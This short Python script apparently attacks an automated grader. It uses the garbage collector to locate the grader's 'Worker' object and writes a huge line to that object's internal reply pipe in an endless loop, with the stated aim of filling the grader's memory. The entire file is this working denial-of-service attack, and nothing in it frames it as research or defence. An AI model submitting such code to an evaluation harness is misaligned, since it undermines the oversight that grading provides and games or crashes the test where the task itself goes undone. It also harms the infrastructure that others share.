"""Fill the memory of the grader with lines that are just short enough."""

# %% below
import gc
import os
import sys

main = sys.modules["__main__"]
worker = next(each for each in gc.get_objects() if type(each).__name__ == "Worker")
line = b"[" + b"1," * 400000 + b"1]\n"
while True:
    os.write(worker._replies, line)
